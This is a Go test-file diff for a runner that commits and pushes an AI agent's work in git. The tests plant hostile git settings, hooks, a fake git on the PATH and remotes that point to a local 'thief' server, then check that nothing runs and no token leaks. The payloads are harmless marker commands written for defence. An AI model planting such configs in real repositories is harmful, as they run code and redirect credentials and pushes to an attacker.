@@ -345,52 +345,210 @@ func TestRevisions(t *testing.T) {
 	}
 }
 
-// Whatever is in the repository, or the agent puts there, no program of it is run by
-// the runner, and nothing gets the token.
+// hostile are settings of git that run a command, and send to a thief.
+func hostile(command, thief string) string {
+	return strings.NewReplacer("COMMAND", command, "THIEF", thief).Replace(`
+[core]
+	fsmonitor = COMMAND
+	hooksPath = .git/hooks
+	sshCommand = COMMAND
+	pager = COMMAND
+	gitProxy = COMMAND
+	askPass = COMMAND
+[credential]
+	helper = !COMMAND
+[filter "evil"]
+	clean = COMMAND
+	smudge = COMMAND
+	required = true
+[diff "evil"]
+	command = COMMAND
+	textconv = COMMAND
+[diff]
+	external = COMMAND
+[url "THIEF/"]
+	insteadOf = http://
+	pushInsteadOf = http://
+[remote "origin"]
+	url = THIEF
+	pushurl = THIEF
+[http]
+	proxy = THIEF
+	sslVerify = false
+[gpg]
+	program = COMMAND
+[commit]
+	gpgSign = true
+`)
+}
+
+// writeHooks has all hooks that git may come to run a command.
+func writeHooks(t *testing.T, folder, command string) {
+	t.Helper()
+	for _, hook := range []string{"pre-commit", "commit-msg", "pre-push", "reference-transaction", "post-checkout", "post-index-change"} {
+		write(t, folder, map[string]string{hook: "#!/bin/sh\n" + command + "\n"})
+		if err := os.Chmod(filepath.Join(folder, hook), 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+// appendTo appends to a file, which may not be there.
+func appendTo(t *testing.T, name, text string) {
+	t.Helper()
+	before, err := os.ReadFile(name)
+	if err != nil && !errors.Is(err, os.ErrNotExist) {
+		t.Fatal(err)
+	}
+	write(t, filepath.Dir(name), map[string]string{filepath.Base(name): string(before) + text})
+}
+
+// writeState writes what it can into folders that the runner has of its own.
+func writeState(t *testing.T, o Options, command, thief string) {
+	t.Helper()
+	folders, err := filepath.Glob(filepath.Join(o.Temporary, "*"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, folder := range folders {
+		const all = "* filter=evil diff=evil merge=evil\n"
+		for _, config := range []string{"git/config", "git/config.worktree", ".gitconfig", ".config/git/config"} {
+			appendTo(t, filepath.Join(folder, config), hostile(command, thief))
+		}
+		write(t, folder, map[string]string{
+			"git/info/attributes": all, ".config/git/attributes": all, "git/info/exclude": "*\n", ".config/git/ignore": "*\n",
+			"git/HEAD": "ref: refs/heads/evil\n",
+		})
+		writeHooks(t, filepath.Join(folder, "git", "hooks"), command)
+	}
+}
+
+// Whatever is in the repository, or the agent puts there or into the runner's own
+// folder, no program of it is run by the runner, and nothing gets the token.
 func TestHostileRepository(t *testing.T) {
 	t.Parallel()
 	far := newRemote(t)
-	mark := filepath.Join(t.TempDir(), "mark")
 	thief := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, request *http.Request) {
 		t.Errorf("the thief is asked %s %v", request.URL, request.Header)
 	}))
 	t.Cleanup(thief.Close)
-	touch := "touch " + mark
 	far.commit("main", map[string]string{
 		".gitattributes": "* filter=evil diff=evil merge=evil\n", ".gitmodules": "[submodule \"s\"]\n\tpath = s\n\turl = " + thief.URL + "/s\n",
 	})
+	for name, cloned := range map[string]bool{"clone": true, "found": false} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			o := far.options()
+			if !cloned {
+				o.Config = Config{Timeout: time.Minute}
+				far.must("clone", "--quiet", far.folder, o.Folder)
+			}
+			r := open(t, o)
+			mark := filepath.Join(t.TempDir(), "mark")
+			command := "touch " + mark
+			write(t, o.Folder, map[string]string{"new": "1", ".git/config": hostile(command, thief.URL)})
+			writeHooks(t, filepath.Join(o.Folder, ".git", "hooks"), command)
+			writeState(t, o, command, thief.URL)
+			if change := changed(t, r, "New."); change.FileCount != 1 {
+				t.Errorf("%+v", change)
+			}
+			if cloned && !push(t, r) {
+				t.Error("it was not pushed")
+			}
+			if _, err := os.Stat(mark); err == nil {
+				t.Error("a program of the repository was run")
+			}
+			// A repository that is broken is an error.
+			if err := os.RemoveAll(filepath.Join(o.Folder, ".git")); err != nil {
+				t.Fatal(err)
+			}
+			if _, err := r.Commit(t.Context(), ""); !errors.Is(err, ErrGit) || !strings.Contains(err.Error(), "broken") {
+				t.Errorf("got %v", err)
+			}
+		})
+	}
+}
+
+// A commit that is not there is an error: it is not fetched from where the agent says,
+// by ssh, whose configuration may be the agent's.
+func TestNothingIsFetchedAfterTheAgent(t *testing.T) {
+	t.Parallel()
+	far := newRemote(t)
+	o := far.options()
+	mark := filepath.Join(t.TempDir(), "mark")
+	o.Environment = append(o.Environment, "GIT_SSH_COMMAND=touch "+mark+"; false")
+	r := open(t, o)
+	const config = `
+[core]
+	repositoryformatversion = 1
+[extensions]
+	partialClone = origin
+[remote "origin"]
+	promisor = true
+	url = ssh://thief.invalid/name
+`
+	write(t, o.Folder, map[string]string{".git/config": config, ".git/HEAD": strings.Repeat("1", 40) + "\n"})
+	if _, err := r.Commit(t.Context(), ""); !errors.Is(err, ErrGit) || !strings.Contains(err.Error(), "broken") {
+		t.Errorf("got %v", err)
+	}
+	if _, err := os.Stat(mark); err == nil {
+		t.Error("it was asked for")
+	}
+}
+
+// The git that was on the path before the agent is run after it, too.
+func TestGitIsTheOneBefore(t *testing.T) {
+	folder := t.TempDir()
+	t.Setenv("PATH", folder+string(filepath.ListSeparator)+os.Getenv("PATH"))
+	far := newRemote(t)
 	o := far.options()
 	r := open(t, o)
-	write(t, o.Folder, map[string]string{
-		"new": "1", ".git/config": strings.Join([]string{
-			"[core]", "\tfsmonitor = " + touch, "\thooksPath = .git/hooks", "\tsshCommand = " + touch, "\tpager = " + touch,
-			"\tgitProxy = " + touch, "\taskPass = " + touch,
-			"[credential]", "\thelper = !" + touch,
-			"[filter \"evil\"]", "\tclean = " + touch, "\tsmudge = " + touch, "\trequired = true",
-			"[diff \"evil\"]", "\tcommand = " + touch, "\ttextconv = " + touch, "[diff]", "\texternal = " + touch,
-			"[url \"" + thief.URL + "/\"]", "\tinsteadOf = http://", "\tpushInsteadOf = http://",
-			"[remote \"origin\"]", "\turl = " + thief.URL, "\tpushurl = " + thief.URL,
-			"[http]", "\tproxy = " + thief.URL, "\tsslVerify = false", "[gpg]", "\tprogram = " + touch, "[commit]", "\tgpgSign = true",
-		}, "\n"),
-	})
-	for _, hook := range []string{"pre-commit", "commit-msg", "pre-push", "reference-transaction", "post-checkout", "post-index-change"} {
-		write(t, o.Folder, map[string]string{".git/hooks/" + hook: "#!/bin/sh\n" + touch + "\n"})
-		if err := os.Chmod(filepath.Join(o.Folder, ".git/hooks", hook), 0o700); err != nil {
-			t.Fatal(err)
-		}
+	mark := filepath.Join(t.TempDir(), "mark")
+	write(t, folder, map[string]string{"git": "#!/bin/sh\ntouch " + mark + "\nexit 1\n"})
+	if err := os.Chmod(filepath.Join(folder, "git"), 0o700); err != nil {
+		t.Fatal(err)
 	}
+	write(t, o.Folder, map[string]string{"new": "1"})
 	if change := changed(t, r, "New."); change.FileCount != 1 || !push(t, r) {
 		t.Errorf("%+v", change)
 	}
 	if _, err := os.Stat(mark); err == nil {
-		t.Error("a program of the repository was run")
+		t.Error("the agent's git was run")
 	}
-	// A repository that is broken is an error.
-	if err := os.RemoveAll(filepath.Join(o.Folder, ".git")); err != nil {
-		t.Fatal(err)
+}
+
+// The runner has nothing of its own in the file system while the agent works in a
+// clone, and knows nevertheless what was there: what is excluded, and submodules that
+// have no files.
+func TestStateIsKept(t *testing.T) {
+	t.Parallel()
+	far := newRemote(t)
+	clone := t.TempDir()
+	far.must("clone", "--quiet", far.folder, clone)
+	link := strings.Repeat("1", 40)
+	far.must("-C", clone, "update-index", "--add", "--cacheinfo", "160000,"+link+",sub")
+	far.must("-C", clone, "commit", "--quiet", "-m", "A submodule")
+	far.must("-C", clone, "push", "--quiet", "origin", "HEAD:main")
+	o := far.options()
+	o.Excluded = "in"
+	r := open(t, o)
+	if left, err := os.ReadDir(o.Temporary); err != nil || len(left) > 0 {
+		t.Errorf("%v, %v", left, err)
 	}
-	if _, err := r.Commit(t.Context(), ""); !errors.Is(err, ErrGit) || !strings.Contains(err.Error(), "broken") {
-		t.Errorf("got %v", err)
+	write(t, o.Folder, map[string]string{"in/deployment.yaml": "kind: Deployment\n", "new": "1"})
+	for range 2 { // another one begins as the first did
+		if change := changed(t, r, ""); change.FileCount != 1 || change.Files[0].Path != "new" || change.CommitCount != 1 {
+			t.Errorf("%+v", change)
+		}
+	}
+	if !push(t, r) || !strings.Contains(far.must("-C", far.folder, "ls-tree", "graf/"+task), link) {
+		t.Error("the submodule is gone")
+	}
+	if err := r.Close(); err != nil {
+		t.Error(err)
+	}
+	if left, err := os.ReadDir(o.Temporary); err != nil || len(left) > 0 {
+		t.Errorf("left are %v, %v", left, err)
 	}
 }
 
@@ -465,8 +623,8 @@ func TestSecretsAreNotSought(t *testing.T) {
 	t.Parallel()
 	far := newRemote(t)
 	r := open(t, far.options())
+	changed(t, r, "")
 	for base, want := range map[string]int{r.start: -1, "exit status 1": 128} {
-		r.tree = r.start
 		if _, err := r.secretFiles(t.Context(), base); exitCode(err) != want {
 			t.Errorf("%s: %v", base, err)
 		}
